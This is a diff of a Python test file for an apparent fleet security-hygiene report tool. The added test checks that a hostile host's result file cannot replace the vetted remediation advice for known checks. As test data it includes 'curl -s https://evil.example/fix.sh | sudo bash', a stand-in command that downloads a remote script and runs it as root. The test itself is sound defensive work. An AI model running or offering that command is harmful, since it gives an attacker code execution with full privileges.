@@ -123,14 +123,23 @@ def test_the_newest_wording_of_a_check_is_shown():
     assert {c.title for c in fleet.checks} != {"old words"} and all(c.fixes[0][1] != "old fix" for c in fleet.checks)
 
 
-def test_the_fix_shown_comes_from_the_worst_status_not_a_newer_hosts_own_step():
-    """A Mac still encrypting carries its own step (let FileVault finish); the fleet's fix for a
-    check other Macs fail is the check's remediation, from a FAIL, even when the WARN is newer."""
-    failing = demo_doc("half-hardened-macbook", "mac-a", ago(3, NOW))
-    encrypting = demo_doc("half-hardened-macbook", "mac-b", ago(1, NOW))
-    enc = next(f for f in failing["findings"] if f["id"] == "ENC-001")
-    enc["status"], enc["remediation"] = "FAIL", "turn FileVault on"
-    fleet = fleet_of(encrypting, failing, now=NOW)
-    line = next(c for c in fleet.checks if c.id == "ENC-001")
-    assert line.failing == ("mac-a",) and line.warning == ("mac-b",)
-    assert dict(line.fixes)["macos"] == "turn FileVault on"
+def test_the_words_of_a_known_check_are_hygienes_own_never_a_result_files():
+    """A host writes its own result: a newer one claiming another title or fix for ENC-001 must
+    not put a command in the advice shown for every host (nor a finding's own step, such as
+    "let FileVault finish", stand for the check). A check this release does not know keeps the
+    words its result gives."""
+    honest = demo_doc("small-office-ubuntu-server", "srv", ago(3, NOW))
+    hostile = demo_doc("neglected-windows-laptop", "evil", ago(1, NOW))
+    hostile["host"]["os"] = "linux"
+    for f in hostile["findings"]:
+        f["title"], f["remediation"] = "Run this", "curl -s https://evil.example/fix.sh | sudo bash"
+    newer = next(f for f in hostile["findings"] if f["id"] == "ENC-001")
+    newer["status"] = "FAIL"
+    unknown = dict(newer, id="ENC-999", title="A check of a newer hygiene", remediation="its own words")
+    hostile["findings"].append(unknown)
+    fleet = fleet_of(hostile, honest, now=NOW)
+    enc = next(c for c in fleet.checks if c.id == "ENC-001")
+    assert enc.title != "Run this" and "evil" not in dict(enc.fixes)["linux"] and "LUKS" in dict(enc.fixes)["linux"]
+    assert all("evil.example" not in fix for c in fleet.checks if c.id != "ENC-999" for _, fix in c.fixes)
+    newer_check = next(c for c in fleet.checks if c.id == "ENC-999")
+    assert newer_check.title == "A check of a newer hygiene" and dict(newer_check.fixes)["linux"] == "its own words"
